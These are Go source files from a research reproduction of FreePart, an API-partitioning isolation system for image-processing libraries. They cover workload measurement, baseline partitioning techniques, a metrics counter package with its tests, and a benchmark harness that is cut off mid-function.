		// partition-boundary copies exactly as in the paper.
		blur, _, err := ex.Call("cv.GaussianBlur", morph[0].Value())
		if err != nil {
			return err
		}
		er, _, err := ex.Call("cv.erode", blur[0].Value())
		if err != nil {
			return err
		}
		eq, _, err := ex.Call("cv.equalizeHist", er[0].Value())
		if err != nil {
			return err
		}
		norm, _, err := ex.Call("cv.normalize", eq[0].Value())
		if err != nil {
			return err
		}
		if _, _, err := ex.Call("cv.findContours", norm[0].Value()); err != nil {
			return err
		}
		thr, _, err := ex.Call("cv.threshold", norm[0].Value(), framework.Int64(100))
		if err != nil {
			return err
		}
		// Hot loop: one template read per bubble (Fig. 2-(b)'s ~800 IPCs
		// per input come from exactly this pattern).
		for q := 0; q < questions; q++ {
			for o := 0; o < options; o++ {
				if _, err := readTemplate((q*options+o)*2, 2); err != nil {
					return err
				}
			}
		}
		canvas := thr[0]
		for q := 0; q < questions; q++ {
			out, _, err := ex.Call("cv.rectangle", canvas.Value(),
				framework.Int64(0), framework.Int64(int64(q*cell)), framework.Int64(int64(cell)), framework.Int64(int64(cell)))
			if err != nil {
				return err
			}
			canvas = out[0]
			out, _, err = ex.Call("cv.putText", canvas.Value(), framework.Str("Q"), framework.Int64(1), framework.Int64(1))
			if err != nil {
				return err
			}
			canvas = out[0]
		}
		if _, _, err := ex.Call("cv.imshow", framework.Str("omr"), canvas.Value()); err != nil {
			return err
		}
		if _, _, err := ex.Call("cv.imwrite", framework.Str("/omr/out.img"), canvas.Value()); err != nil {
			return err
		}
	}
	return nil
}

// DefaultCell sizes OMR bubbles; experiments raise it via MeasureOpts to
// make the workload compute-dominated like the paper's 1.7 MB inputs.
const DefaultCell = 6

// Cell is the bubble size used by the Measure* helpers (package-level so
// experiments can run the same harness at realistic image sizes).
var Cell = DefaultCell

// MeasureBaseline runs the OMR workload on one baseline technique.
func MeasureBaseline(kind Kind, sheets, questions, options int) (Perf, error) {
	k := kernel.New()
	reg := all.Registry()
	s, err := New(kind, k, reg, OMRAPIs())
	if err != nil {
		return Perf{}, err
	}
	// The template lives wherever the technique puts it; a host read of a
	// remote one costs an IPC.
	size := questions * options * 2
	if _, err := s.PlaceCriticalAuto("template", make([]byte, size)); err != nil {
		return Perf{}, err
	}
	start := k.Clock.Now()
	err = omrWorkload(k, s, func(off, n int) ([]byte, error) {
		return s.ReadCritical("template", off, n)
	}, sheets, questions, options, Cell)
	if err != nil {
		return Perf{}, err
	}
	snap := s.Metrics.Snapshot()
	return Perf{Technique: kind.String(), IPCs: snap.IPCCalls, Bytes: snap.BytesMoved, Time: k.Clock.Now() - start}, nil
}

// MeasureFreePart runs the OMR workload under the FreePart runtime,
// optionally without lazy data copy (the §5.2 ablation).
func MeasureFreePart(ldc bool, sheets, questions, options int) (Perf, error) {
	k := kernel.New()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	cfg := core.Default()
	cfg.LazyDataCopy = ldc
	cfg.AppAPIs = OMRAPIs()
	rt, err := core.New(k, reg, cat, cfg)
	if err != nil {
		return Perf{}, err
	}
	defer rt.Close()
	size := questions * options * 2
	tmpl, err := rt.Host.Space().Alloc(size)
	if err != nil {
		return Perf{}, err
	}
	rt.RegisterCritical(tmpl)
	start := k.Clock.Now()
	err = omrWorkload(k, rt, func(off, n int) ([]byte, error) {
		// Host-resident template: a plain local read.
		return rt.Host.Space().Load(tmpl.Base+mem.Addr(off), n)
	}, sheets, questions, options, Cell)
	if err != nil {
		return Perf{}, err
	}
	snap := rt.Metrics.Snapshot()
	name := "FreePart"
	if !ldc {
		name = "FreePart (no LDC)"
	}
	return Perf{Technique: name, IPCs: snap.IPCCalls, Bytes: snap.BytesMoved, Time: k.Clock.Now() - start}, nil
}

// MeasureUnprotected runs the workload with no isolation at all (the
// normalization baseline of Fig. 13 / Table 9's memory-based row timing).
func MeasureUnprotected(sheets, questions, options int) (Perf, error) {
	k := kernel.New()
	d := core.NewDirect(k, all.Registry())
	size := questions * options * 2
	tmpl, err := d.Proc.Space().Alloc(size)
	if err != nil {
		return Perf{}, err
	}
	start := k.Clock.Now()
	err = omrWorkload(k, d, func(off, n int) ([]byte, error) {
		return d.Proc.Space().Load(tmpl.Base+mem.Addr(off), n)
	}, sheets, questions, options, Cell)
	if err != nil {
		return Perf{}, err
	}
	snap := d.Metrics.Snapshot()
	return Perf{Technique: "Unprotected", IPCs: snap.IPCCalls, Bytes: snap.BytesMoved, Time: k.Clock.Now() - start}, nil
}

// ensure metrics import is used even if future edits drop other uses.
var _ = metrics.New

// RunOMRWorkload exposes the OMR measurement workload for external
// harnesses (ablation studies, benches).
func RunOMRWorkload(k *kernel.Kernel, ex core.Caller, readTemplate func(off, n int) ([]byte, error), sheets, questions, options int) error {
	return omrWorkload(k, ex, readTemplate, sheets, questions, options, Cell)
}
