package baseline

import (
	"fmt"
	"strings"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/metrics"
)

// loadingAPIs lists the vulnerable loading APIs Fig. 2 isolates in the
// first code partition.
func loadingAPIs() map[string]bool {
	return map[string]bool{
		"cv.imread": true, "cv.cvLoad": true,
		"cv.VideoCapture": true, "cv.VideoCapture.read": true,
		"cv.readOpticalFlow": true, "cv.CascadeClassifier": true,
	}
}

// New builds a baseline System of the given kind over the APIs the target
// application uses (apiNames; nil = every registered API).
func New(kind Kind, k *kernel.Kernel, reg *framework.Registry, apiNames []string) (*System, error) {
	s := &System{
		Kind: kind, K: k, Reg: reg,
		Metrics:   metrics.New(),
		homeOf:    make(map[string]int),
		criticals: make(map[string]critical),
		codeOf:    make(map[string]codeLoc),
		owners:    make(map[uint64]ownerRef),
	}
	s.host = k.Spawn("host:" + kind.String())
	s.hostCtx = framework.NewCtx(k, s.host)

	if apiNames == nil {
		for _, a := range reg.All() {
			apiNames = append(apiNames, a.Name)
		}
	}

	spawn := func(name string) int {
		p := k.Spawn(name)
		s.procs = append(s.procs, p)
		s.ctxs = append(s.ctxs, framework.NewCtx(k, p))
		return len(s.procs) - 1
	}

	switch kind {
	case CodeAPI, CodeAPIData:
		// Fig. 2-(a): P1 = init code + loading APIs, P2 = imshow,
		// P3 (the host here) = the remaining code and APIs.
		p1 := spawn("code:init+load")
		p2 := spawn("code:show")
		loaders := loadingAPIs()
		for _, name := range apiNames {
			switch {
			case loaders[name]:
				s.homeOf[name] = p1
			case name == "cv.imshow":
				s.homeOf[name] = p2
			default:
				s.homeOf[name] = -1
			}
		}
		// Fig. 2-(b) adds two data-only processes; PlaceCriticalAuto
		// routes criticals there.
		if kind == CodeAPIData {
			spawn("data:template")
			spawn("data:omrcrop")
		}

	case LibraryEntire:
		lib := spawn("library")
		for _, name := range apiNames {
			s.homeOf[name] = lib
		}
		s.sharedData = true

	case LibraryPerAPI:
		for _, name := range apiNames {
			s.homeOf[name] = spawn("api:" + shorten(name))
		}

	case MemoryBased:
		for _, name := range apiNames {
			s.homeOf[name] = -1
		}

	default:
		return nil, fmt.Errorf("baseline: unknown kind %d", kind)
	}

	// Install each API's code region in its home process.
	for _, name := range apiNames {
		if err := s.allocCode(name); err != nil {
			return nil, err
		}
	}
	return s, nil
}

// shorten trims an API name for process naming.
func shorten(name string) string {
	if i := strings.LastIndex(name, "."); i >= 0 && i+1 < len(name) {
		return name[i+1:]
	}
	return name
}

// PlaceCriticalAuto places a named critical variable per the technique's
// data policy and returns its region:
//   - CodeAPI: "template"-style config data sits in the init+load process
//     (the co-residency flaw of Fig. 2-(a)); everything else in the host.
//   - CodeAPIData: each critical gets its own data process.
//   - Others: host process (MemoryBased additionally seals it read-only).
func (s *System) PlaceCriticalAuto(name string, data []byte) (mem.Region, error) {
	proc := s.host
	switch s.Kind {
	case CodeAPI:
		if name == "template" {
			proc = s.procs[0] // init+load partition
		}
	case CodeAPIData:
		switch name {
		case "template":
			proc = s.procs[2]
		case "omrcrop":
			proc = s.procs[3]
		}
	}
	return s.PlaceCritical(name, data, proc)
}

// allocDataProcess is used by tests needing extra data-only processes.
func (s *System) allocDataProcess(name string) *kernel.Process {
	p := s.K.Spawn(name)
	s.procs = append(s.procs, p)
	s.ctxs = append(s.ctxs, framework.NewCtx(s.K, p))
	return p
}
