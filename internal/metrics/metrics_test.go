package metrics

import (
	"testing"
	"testing/quick"
	"time"
)

func TestCountersAccumulate(t *testing.T) {
	c := New()
	c.AddIPC(100)
	c.AddIPC(-5) // negative byte counts are ignored
	c.AddLazyCopy(50)
	c.AddEagerCopy(25)
	c.AddPermFlip(3)
	c.AddRestart()
	c.AddDenial()
	c.AddAPICall()
	c.AddCheckpoint()
	s := c.Snapshot()
	if s.IPCCalls != 2 || s.BytesMoved != 175 || s.LazyCopies != 1 || s.EagerCopies != 1 {
		t.Fatalf("snapshot = %+v", s)
	}
	if s.PermFlips != 1 || s.PagesFlip != 3 || s.Restarts != 1 || s.Denials != 1 ||
		s.APICalls != 1 || s.Checkpoints != 1 {
		t.Fatalf("snapshot = %+v", s)
	}
	if s.String() == "" {
		t.Fatal("empty summary")
	}
}

func TestLazyFraction(t *testing.T) {
	c := New()
	if c.Snapshot().LazyFraction() != 0 {
		t.Fatal("empty counters fraction should be 0")
	}
	for i := 0; i < 19; i++ {
		c.AddLazyCopy(1)
	}
	c.AddEagerCopy(1)
	if f := c.Snapshot().LazyFraction(); f != 0.95 {
		t.Fatalf("fraction = %v, want 0.95", f)
	}
}

func TestOverhead(t *testing.T) {
	if got := Overhead(100*time.Millisecond, 103*time.Millisecond); got < 2.9 || got > 3.1 {
		t.Fatalf("overhead = %v, want ~3", got)
	}
	if Overhead(0, time.Second) != 0 {
		t.Fatal("zero base should report 0")
	}
	if Overhead(time.Second, time.Second) != 0 {
		t.Fatal("equal times should report 0")
	}
}

func TestOverheadMonotoneProperty(t *testing.T) {
	f := func(a, b uint32) bool {
		base := time.Duration(a%1000+1) * time.Millisecond
		p1 := base + time.Duration(b%100)*time.Millisecond
		p2 := p1 + time.Millisecond
		return Overhead(base, p2) > Overhead(base, p1)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestConcurrentCounters(t *testing.T) {
	c := New()
	done := make(chan struct{})
	for i := 0; i < 8; i++ {
		go func() {
			for j := 0; j < 500; j++ {
				c.AddIPC(1)
			}
			done <- struct{}{}
		}()
	}
	for i := 0; i < 8; i++ {
		<-done
	}
	if got := c.Snapshot().IPCCalls; got != 4000 {
		t.Fatalf("concurrent IPC count = %d", got)
	}
}

func TestWarmColdCounters(t *testing.T) {
	c := New()
	c.AddWarmHit()
	c.AddWarmHit()
	c.AddColdMiss()
	c.AddPartitionSplit()
	s := c.Snapshot()
	if s.WarmHits != 2 || s.ColdMisses != 1 || s.PartitionSplits != 1 {
		t.Fatalf("warm/cold counters = %d/%d/%d, want 2/1/1",
			s.WarmHits, s.ColdMisses, s.PartitionSplits)
	}
}
