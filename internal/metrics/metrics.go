// Package metrics collects the counters the evaluation tables are built
// from: IPC round trips, bytes moved between processes, lazy vs eager data
// copies (Table 12), permission flips, restarts, and syscall denials.
package metrics

import (
	"fmt"
	"sync"

	"freepart.dev/freepart/internal/vclock"
)

// Counters accumulates runtime events. Safe for concurrent use.
type Counters struct {
	mu sync.Mutex

	ipcCalls    uint64
	bytesMoved  uint64
	lazyCopies  uint64
	eagerCopies uint64
	permFlips   uint64
	pagesFlip   uint64
	restarts    uint64
	denials     uint64
	apiCalls    uint64
	checkpoints uint64

	retries        uint64
	degraded       uint64
	degradedCalls  uint64
	injectedFaults uint64

	shardDrains      uint64
	migrations       uint64
	failedMigrations uint64

	scaleUps          uint64
	scaleDowns        uint64
	rebalances        uint64
	batchedAdmissions uint64
	batchedRequests   uint64

	rejected     uint64
	deadlineShed uint64
	tenants      map[int]TenantCounts

	domainSwitches   uint64
	domainCopies     uint64
	domainCopyBytes  uint64
	domainGrants     uint64
	domainGrantBytes uint64

	watchdogTrips uint64
	rebinds       uint64
	quarantined   uint64

	grayDrains   uint64
	hedges       uint64
	hedgeWins    uint64
	hedgeCancels uint64
	hedgeWork    vclock.Duration

	warmHits        uint64
	coldMisses      uint64
	partitionSplits uint64
}

// TenantCounts is one tenant's share of the serving outcome: invocations
// completed cleanly versus shed by overload control (queue-bound rejections
// plus deadline drops).
type TenantCounts struct {
	Served uint64
	Shed   uint64
}

// Snapshot is an immutable copy of the counters.
type Snapshot struct {
	IPCCalls    uint64
	BytesMoved  uint64
	LazyCopies  uint64
	EagerCopies uint64
	PermFlips   uint64
	PagesFlip   uint64
	Restarts    uint64
	Denials     uint64
	APICalls    uint64
	Checkpoints uint64

	// Retries counts API calls re-issued by the supervisor after a crash,
	// timeout, or corrupted message.
	Retries uint64
	// Degraded counts partitions the circuit breaker demoted to in-host
	// direct execution — each one is a recorded security downgrade.
	Degraded uint64
	// DegradedCalls counts API calls executed in-host on behalf of a
	// degraded partition (no isolation for these).
	DegradedCalls uint64
	// InjectedFaults counts faults the chaos engine actually fired.
	InjectedFaults uint64

	// ShardDrains counts serving-layer shards drained by the executor's
	// health policy (or an explicit kill) and replaced by a fresh shard.
	ShardDrains uint64
	// Migrations counts sessions moved off a drained shard with their
	// stateful-API checkpoints materialized on the destination.
	Migrations uint64
	// FailedMigrations counts sessions (or bound state objects) that could
	// not be moved — no checkpoint to restore from, or the restore failed.
	FailedMigrations uint64

	// ScaleUps counts shards the control plane added to the serving pool.
	ScaleUps uint64
	// ScaleDowns counts shards the control plane retired from the pool
	// (shrink = drain + migrate, without a corpse).
	ScaleDowns uint64
	// Rebalances counts sessions proactively migrated off a hot shard by
	// the control plane before any failure.
	Rebalances uint64
	// BatchedAdmissions counts coalesced admission batches; BatchedRequests
	// counts the invocations they carried. Requests − Batches is the number
	// of worker-pool acquisitions the batching layer amortized away.
	BatchedAdmissions uint64
	BatchedRequests   uint64

	// Rejected counts arrivals refused at the admission-queue bound (the
	// virtual 503s); DeadlineShed counts requests dropped at dequeue after
	// outliving their admission deadline. Shed work runs nothing — no
	// checkpoint writes, no chaos draws, no clock advance.
	Rejected     uint64
	DeadlineShed uint64
	// Tenants breaks served/shed down per tenant id. Executors bump these
	// inside the same critical section as the event log appends, so an
	// EventsAndMetrics pair is always mutually consistent.
	Tenants map[int]TenantCounts

	// DomainSwitches counts protection-key domain entries/exits (one WRPKRU
	// per switch; a domain-tier call charges two).
	DomainSwitches uint64
	// DomainCopies/DomainCopyBytes count buffers physically moved between
	// protection domains inside one address space (the cheapest copy tier).
	DomainCopies    uint64
	DomainCopyBytes uint64
	// DomainGrants/DomainGrantBytes count cross-domain read-only page
	// grants: object payloads a domain consumed without any copy charge
	// (the MPK analogue of lazy data copy).
	DomainGrants     uint64
	DomainGrantBytes uint64

	// WatchdogTrips counts DoS resource-watchdog reports: domain- or
	// host-tier invocations that killed the host process or overran their
	// virtual-time budget. Detection, not containment — the invocation
	// already ran; the defense controller reacts to the report.
	WatchdogTrips uint64
	// Rebinds counts shards drained and respawned purely to move them onto
	// a changed isolation policy (defense escalation or annealing) — a
	// subset of ShardDrains.
	Rebinds uint64
	// Quarantined counts admissions refused because the requesting tenant
	// was quarantined by the defense controller.
	Quarantined uint64

	// GrayDrains counts shards drained by the latency-based suspicion
	// scorer — shards that never tripped a crash window but whose service
	// times marked them gray. A subset of ShardDrains.
	GrayDrains uint64
	// Hedges counts secondary requests launched because the primary's
	// virtual completion overran the hedge delay; HedgeWins counts hedges
	// whose completion beat the primary's, HedgeCancels counts hedges the
	// primary beat (the loser is cancelled but its work stays charged).
	Hedges       uint64
	HedgeWins    uint64
	HedgeCancels uint64
	// HedgeWork is the total virtual service time spent on hedge
	// executions — the extra-work numerator of the gray campaign's
	// bounded-overhead claim (divide by Executor.TotalWork).
	HedgeWork vclock.Duration

	// WarmHits counts session visits landing on a shard whose simulated
	// page cache still held the session's working set; ColdMisses counts
	// visits that had to re-fault it in (and paid ColdMissCost).
	// PartitionSplits counts hot-range splits performed by the
	// partition-rebalance drill.
	WarmHits        uint64
	ColdMisses      uint64
	PartitionSplits uint64
}

// New creates zeroed counters.
func New() *Counters { return &Counters{} }

// AddIPC records one RPC round trip moving n payload bytes.
func (c *Counters) AddIPC(n int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.ipcCalls++
	if n > 0 {
		c.bytesMoved += uint64(n)
	}
}

// AddLazyCopy records a direct agent-to-agent object copy of n bytes.
func (c *Counters) AddLazyCopy(n int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.lazyCopies++
	if n > 0 {
		c.bytesMoved += uint64(n)
	}
}

// AddEagerCopy records an object payload shipped through the host process.
func (c *Counters) AddEagerCopy(n int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.eagerCopies++
	if n > 0 {
		c.bytesMoved += uint64(n)
	}
}

// AddPermFlip records one mprotect covering pages pages.
func (c *Counters) AddPermFlip(pages int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.permFlips++
	if pages > 0 {
		c.pagesFlip += uint64(pages)
	}
}

// AddRestart records an agent restart.
func (c *Counters) AddRestart() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.restarts++
}

// AddDenial records a syscall blocked by a filter.
func (c *Counters) AddDenial() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.denials++
}

// AddAPICall records one framework API dispatch.
func (c *Counters) AddAPICall() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.apiCalls++
}

// AddCheckpoint records one stateful-state checkpoint write.
func (c *Counters) AddCheckpoint() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.checkpoints++
}

// AddRetry records one supervised re-issue of an API call.
func (c *Counters) AddRetry() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.retries++
}

// AddDegraded records a partition demoted to in-host direct execution.
func (c *Counters) AddDegraded() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.degraded++
}

// AddDegradedCall records an API call served in-host for a degraded
// partition.
func (c *Counters) AddDegradedCall() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.degradedCalls++
}

// AddInjectedFault records one fault fired by the chaos engine.
func (c *Counters) AddInjectedFault() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.injectedFaults++
}

// AddShardDrain records one serving shard drained and replaced.
func (c *Counters) AddShardDrain() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.shardDrains++
}

// AddMigration records one session migrated off a drained shard.
func (c *Counters) AddMigration() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.migrations++
}

// AddFailedMigration records one migration that could not restore state.
func (c *Counters) AddFailedMigration() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.failedMigrations++
}

// AddScaleUp records one shard added to the pool by the control plane.
func (c *Counters) AddScaleUp() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.scaleUps++
}

// AddScaleDown records one shard retired from the pool by the control plane.
func (c *Counters) AddScaleDown() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.scaleDowns++
}

// AddRebalance records one session proactively migrated off a hot shard.
func (c *Counters) AddRebalance() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.rebalances++
}

// AddBatchedAdmission records one coalesced admission batch of n requests.
func (c *Counters) AddBatchedAdmission(n int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.batchedAdmissions++
	if n > 0 {
		c.batchedRequests += uint64(n)
	}
}

// tenantLocked returns tenant t's cell, allocating the map lazily so
// single-tenant runs never carry it. Caller holds c.mu.
func (c *Counters) tenantLocked(t int) TenantCounts {
	if c.tenants == nil {
		c.tenants = make(map[int]TenantCounts)
	}
	return c.tenants[t]
}

// AddRejected records one queue-bound rejection (virtual 503) for tenant t.
func (c *Counters) AddRejected(t int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.rejected++
	tc := c.tenantLocked(t)
	tc.Shed++
	c.tenants[t] = tc
}

// AddDeadlineShed records one deadline drop for tenant t.
func (c *Counters) AddDeadlineShed(t int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.deadlineShed++
	tc := c.tenantLocked(t)
	tc.Shed++
	c.tenants[t] = tc
}

// AddDomainSwitch records one protection-key domain entry or exit.
func (c *Counters) AddDomainSwitch() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.domainSwitches++
}

// AddDomainCopy records n bytes physically copied between protection
// domains inside one address space.
func (c *Counters) AddDomainCopy(n int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.domainCopies++
	if n > 0 {
		c.domainCopyBytes += uint64(n)
		c.bytesMoved += uint64(n)
	}
}

// AddDomainGrant records n bytes consumed across domains via a read-only
// page grant (no copy charged).
func (c *Counters) AddDomainGrant(n int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.domainGrants++
	if n > 0 {
		c.domainGrantBytes += uint64(n)
	}
}

// AddWatchdogTrip records one DoS resource-watchdog report.
func (c *Counters) AddWatchdogTrip() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.watchdogTrips++
}

// AddRebind records one shard drained to re-bind it at a changed
// isolation policy.
func (c *Counters) AddRebind() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.rebinds++
}

// AddQuarantined records one admission refused for a quarantined tenant t.
func (c *Counters) AddQuarantined(t int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.quarantined++
	tc := c.tenantLocked(t)
	tc.Shed++
	c.tenants[t] = tc
}

// AddGrayDrain records one shard drained on latency suspicion.
func (c *Counters) AddGrayDrain() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.grayDrains++
}

// AddHedge records one hedged secondary launched.
func (c *Counters) AddHedge() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.hedges++
}

// AddHedgeWin records one hedge that completed before its primary.
func (c *Counters) AddHedgeWin() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.hedgeWins++
}

// AddHedgeCancel records one hedge cancelled because the primary won.
func (c *Counters) AddHedgeCancel() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.hedgeCancels++
}

// AddWarmHit records one session visit placed on a shard whose simulated
// page cache already held the session's working set.
func (c *Counters) AddWarmHit() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.warmHits++
}

// AddColdMiss records one session visit that found a cold cache and paid
// the re-fault cost.
func (c *Counters) AddColdMiss() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.coldMisses++
}

// AddPartitionSplit records one hot-range split performed by the
// partition-rebalance drill.
func (c *Counters) AddPartitionSplit() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.partitionSplits++
}

// AddHedgeWork records d of virtual service time spent on a hedge
// execution (charged whether or not the hedge won).
func (c *Counters) AddHedgeWork(d vclock.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if d > 0 {
		c.hedgeWork += d
	}
}

// AddTenantServed records one cleanly completed invocation for tenant t.
func (c *Counters) AddTenantServed(t int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	tc := c.tenantLocked(t)
	tc.Served++
	c.tenants[t] = tc
}

// Snapshot returns a copy of the counters.
func (c *Counters) Snapshot() Snapshot {
	c.mu.Lock()
	defer c.mu.Unlock()
	var tenants map[int]TenantCounts
	if len(c.tenants) > 0 {
		tenants = make(map[int]TenantCounts, len(c.tenants))
		for t, tc := range c.tenants {
			tenants[t] = tc
		}
	}
	return Snapshot{
		IPCCalls: c.ipcCalls, BytesMoved: c.bytesMoved,
		LazyCopies: c.lazyCopies, EagerCopies: c.eagerCopies,
		PermFlips: c.permFlips, PagesFlip: c.pagesFlip,
		Restarts: c.restarts, Denials: c.denials,
		APICalls: c.apiCalls, Checkpoints: c.checkpoints,
		Retries: c.retries, Degraded: c.degraded,
		DegradedCalls: c.degradedCalls, InjectedFaults: c.injectedFaults,
		ShardDrains: c.shardDrains, Migrations: c.migrations,
		FailedMigrations: c.failedMigrations,
		ScaleUps:         c.scaleUps, ScaleDowns: c.scaleDowns,
		Rebalances: c.rebalances, BatchedAdmissions: c.batchedAdmissions,
		BatchedRequests: c.batchedRequests,
		Rejected:        c.rejected, DeadlineShed: c.deadlineShed,
		Tenants:        tenants,
		DomainSwitches: c.domainSwitches,
		DomainCopies:   c.domainCopies, DomainCopyBytes: c.domainCopyBytes,
		DomainGrants: c.domainGrants, DomainGrantBytes: c.domainGrantBytes,
		WatchdogTrips: c.watchdogTrips, Rebinds: c.rebinds,
		Quarantined: c.quarantined,
		GrayDrains:  c.grayDrains,
		Hedges:      c.hedges, HedgeWins: c.hedgeWins,
		HedgeCancels: c.hedgeCancels, HedgeWork: c.hedgeWork,
		WarmHits: c.warmHits, ColdMisses: c.coldMisses,
		PartitionSplits: c.partitionSplits,
	}
}

// LazyFraction returns the share of copy operations that were lazy
// (Table 12's 95.08%).
func (s Snapshot) LazyFraction() float64 {
	total := s.LazyCopies + s.EagerCopies
	if total == 0 {
		return 0
	}
	return float64(s.LazyCopies) / float64(total)
}

// String renders a one-line summary.
func (s Snapshot) String() string {
	return fmt.Sprintf("ipc=%d bytes=%d lazy=%d eager=%d flips=%d restarts=%d denials=%d retries=%d degraded=%d degradedCalls=%d injected=%d drains=%d migrations=%d failedMigrations=%d",
		s.IPCCalls, s.BytesMoved, s.LazyCopies, s.EagerCopies, s.PermFlips, s.Restarts, s.Denials,
		s.Retries, s.Degraded, s.DegradedCalls, s.InjectedFaults,
		s.ShardDrains, s.Migrations, s.FailedMigrations)
}

// Overhead computes the relative slowdown of a protected run against an
// unprotected baseline in virtual time, as a percentage (Fig. 13's 3.68%).
func Overhead(base, protected vclock.Duration) float64 {
	if base <= 0 {
		return 0
	}
	return 100 * (float64(protected)/float64(base) - 1)
}
