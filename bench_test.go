// Benchmark harness: one benchmark family per table and figure of the
// paper's evaluation. Each benchmark regenerates its experiment from the
// simulation; wall time measures the reproduction harness itself, while
// the experiment's own results are deterministic virtual-time numbers
// (report the tables with cmd/experiments).
//
//	go test -bench=. -benchmem
package freepart

import (
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/baseline"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/report"
	"freepart.dev/freepart/internal/trace"
	"freepart.dev/freepart/internal/workload"
)

// BenchmarkTable1_SecurityMatrix regenerates the effectiveness comparison:
// all five baselines plus FreePart under the M/C/D attacks.
func BenchmarkTable1_SecurityMatrix(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := report.Table1(); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable2_Categorization regenerates the motivating example's API
// categorization via the full hybrid analysis.
func BenchmarkTable2_Categorization(b *testing.B) {
	for i := 0; i < b.N; i++ {
		k := kernel.New()
		reg := all.Registry()
		runner := trace.NewRunner(reg)
		trace.RunSuite(k, runner)
		cat := analysis.New(reg, runner.Recorder).Categorize()
		if cat.TypeOf("cv.imread") != framework.TypeLoading {
			b.Fatal("categorization broke")
		}
	}
}

// BenchmarkTable3_Study56 regenerates the vulnerable-API usage study.
func BenchmarkTable3_Study56(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rows := attack.Table3(attack.Study56())
		if len(rows) != 5 {
			b.Fatal("study broke")
		}
	}
}

// BenchmarkTable5_ExploitConstruction builds and fires all 18 evaluation
// exploits against a victim process.
func BenchmarkTable5_ExploitConstruction(b *testing.B) {
	for i := 0; i < b.N; i++ {
		k := kernel.New()
		p := k.Spawn("victim")
		ctx := framework.NewCtx(k, p)
		log := &attack.Log{}
		ctx.OnExploit = log.Handler()
		for _, cve := range attack.EvalCVEs() {
			k.FS.WriteFile("/evil", attack.DoS(cve.ID))
		}
	}
}

// BenchmarkTable6_AppSweep runs all 23 evaluation applications unprotected.
func BenchmarkTable6_AppSweep(b *testing.B) {
	for i := 0; i < b.N; i++ {
		for _, a := range apps.All() {
			k := kernel.New()
			e := apps.NewEnv(k, core.NewDirect(k, all.Registry()), a)
			if err := a.Run(e); err != nil {
				b.Fatalf("%s: %v", a.Name, err)
			}
		}
	}
}

// BenchmarkTable7_SyscallDerivation derives the per-agent syscall policies.
func BenchmarkTable7_SyscallDerivation(b *testing.B) {
	reg := all.Registry()
	a := analysis.New(reg, nil)
	cat := a.Categorize()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		p := a.DeriveSyscallPolicy(cat, nil)
		if len(p) != 4 {
			b.Fatal("policy derivation broke")
		}
	}
}

// BenchmarkTable9_TechniqueComparison measures the OMR workload across all
// techniques (the Table 9 rows).
func BenchmarkTable9_TechniqueComparison(b *testing.B) {
	for i := 0; i < b.N; i++ {
		for _, kind := range []baseline.Kind{
			baseline.CodeAPI, baseline.CodeAPIData, baseline.LibraryEntire,
			baseline.LibraryPerAPI, baseline.MemoryBased,
		} {
			if _, err := baseline.MeasureBaseline(kind, 1, 8, 4); err != nil {
				b.Fatal(err)
			}
		}
		if _, err := baseline.MeasureFreePart(true, 1, 8, 4); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTable11_DynamicAnalysis runs the full dynamic-analysis suite.
func BenchmarkTable11_DynamicAnalysis(b *testing.B) {
	for i := 0; i < b.N; i++ {
		k := kernel.New()
		runner := trace.NewRunner(all.Registry())
		trace.RunSuite(k, runner)
	}
}

// BenchmarkTable12_LDC runs an app under FreePart and checks the lazy-copy
// fraction (the Table 12 measurement).
func BenchmarkTable12_LDC(b *testing.B) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	a, _ := apps.ByID(8)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		k := kernel.New()
		rt, err := core.New(k, reg, cat, core.Default())
		if err != nil {
